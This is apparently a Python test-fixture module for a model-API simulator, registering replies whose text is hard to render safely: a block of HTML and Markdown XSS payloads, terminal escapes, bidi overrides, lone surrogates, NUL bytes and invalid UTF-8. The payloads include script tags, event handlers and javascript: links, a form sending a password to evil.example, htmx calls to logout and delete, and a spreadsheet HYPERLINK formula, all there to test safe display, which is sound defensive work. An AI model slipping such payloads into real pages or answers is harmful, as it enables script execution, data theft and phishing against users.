"""Healthy answers whose text is hard to store, to show or to trust."""

from __future__ import annotations

import json

from workbench.simulator.replies import Reply, plain_reply
from workbench.simulator.stage import Register, Scope, Stage
from workbench.simulator.streams import (
    ascii_frame,
    events_of,
    frame,
    text_event,
    text_index,
    whole,
)

REGISTER = Register()

LONG_WORD = "Donaudampfschifffahrtsgesellschaft" * 60
HOSTILE = f"""# Hostile <em>heading</em>

<script>document.title = "script ran"; fetch("https://evil.example/s")</script>
<img src="https://evil.example/pixel.png?d=secret" onerror="document.title='onerror ran'">
<svg onload="document.title='onload ran'"><a xlink:href="javascript:alert(1)">svg</a></svg>
<a href="javascript:document.title='link ran'" onclick="alert(2)">a link</a>
<iframe src="https://evil.example/frame" srcdoc="<script>alert(3)</script>"></iframe>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<div hx-get="/logout" hx-trigger="load" hx-on:load="alert(4)" data-hx-post="/delete">htmx</div>
<style>body {{ display: none !important }} @import "https://evil.example/y.css";</style>
<form action="https://evil.example/form" method="post"><input name="password"><button>Go</form>
<title>Title of the attacker</title></title></textarea></script></div></pre></main></body></html>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<details open ontoggle="alert(5)"><summary>details</summary><p style="position:fixed;inset:0">cover

![image](https://evil.example/markdown.png "a \\" quote") ![x](javascript:alert(6))
[link](https://evil.example/?a="onmouseover=alert(7)" 'title "with" quotes')
[j](javascript:alert(8))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==) <https://evil.example/auto>
[reference][r] &lt;script&gt;alert(10)&lt;/script&gt;
`</code><script>alert(11)</script>`

[r]: javascript:alert(12) "reference"

```html"><script>alert(13)</script>
</code></pre><script>alert(14)</script>
```

| a | <b>b |
| --- | --- |
| <script>alert(15)</script> | ![y](//evil.example/z.png) |

{{{{7*7}}}} {{% include "x" %}} ${{7*7}} =HYPERLINK("https://evil.example/csv")

{LONG_WORD}
"""
CONTROLS = (
    "bell \x07, escape \x1b[31mred\x1b[0m, backspace \x08, tab \t, vertical tab \x0b, "
    "delete \x7f, C1 \x9b31m, next line \x85, zero width \u200b\u200d\ufeff, "
    "override \u202egnp.exe\u202c, isolate \u2067abc\u2069, noncharacter \ufffe, end."
)
LINE_SEPARATORS = "one\u2028two \u2029three \x85four \x0bfive \x0csix \x1cseven end."


@REGISTER.add("hostile")
def hostile(stage: Stage) -> Reply:
    """Text full of HTML, scripts, links and Markdown that want to do harm."""
    return stage.respond(stage.answer(HOSTILE))


@REGISTER.add("linesep")
def linesep(stage: Stage) -> Reply:
    """Raw U+2028, U+2029 and U+0085 inside the JSON."""
    return stage.respond(stage.answer(LINE_SEPARATORS))


@REGISTER.add("controls")
def controls(stage: Stage) -> Reply:
    """Control characters, terminal escapes and text that changes direction."""
    return stage.respond(stage.answer(CONTROLS))


@REGISTER.add("nul")
def nul(stage: Stage) -> Reply:
    """NUL characters in the text."""
    return stage.respond(stage.answer("before \x00 between \x00\x00 after"))


@REGISTER.add("emoji")
def emoji(stage: Stage) -> Reply:
    """Characters beyond the basic plane, joined and with modifiers."""
    return stage.respond(stage.answer("family 👩‍👩‍👧‍👦 thumb 👍🏽 flag 🇨🇭 script 𝒳 end"))


@REGISTER.add("lone-surrogate")
def lone_surrogate(stage: Stage) -> Reply:
    """Half a surrogate pair, escaped, in the text."""
    return _escaped(stage, ["lone \ud83d here ", "and \ude00 there"])


@REGISTER.add("split-surrogate")
def split_surrogate(stage: Stage) -> Reply:
    """A surrogate pair whose halves come in two events."""
    return _escaped(stage, ["smile \ud83d", "\ude00 done"])


@REGISTER.add("bad-utf8", Scope.STREAMS)
def bad_utf8(stage: Stage) -> Reply:
    """Bytes inside the text that are not UTF-8 (after=)."""
    before, after = stage.split()
    broken = frame(text_event("bad@bytes ", text_index(before + after)))
    frames = [*map(frame, before), broken.replace(b"@", b"\xff\xfe\xc3"), *map(frame, after)]
    return whole(frames, stage.delay)


def _escaped(stage: Stage, texts: list[str]) -> Reply:
    """Return an answer with these texts in one delta each, non-ASCII characters escaped."""
    answer = stage.answer("")
    answer.blocks[-1].deltas = [{"type": "text_delta", "text": text} for text in texts]
    if not stage.call.streaming:
        data = json.dumps(answer.message()).encode()
        return plain_reply(200, data, "application/json")
    return whole(map(ascii_frame, events_of(answer)), stage.delay)
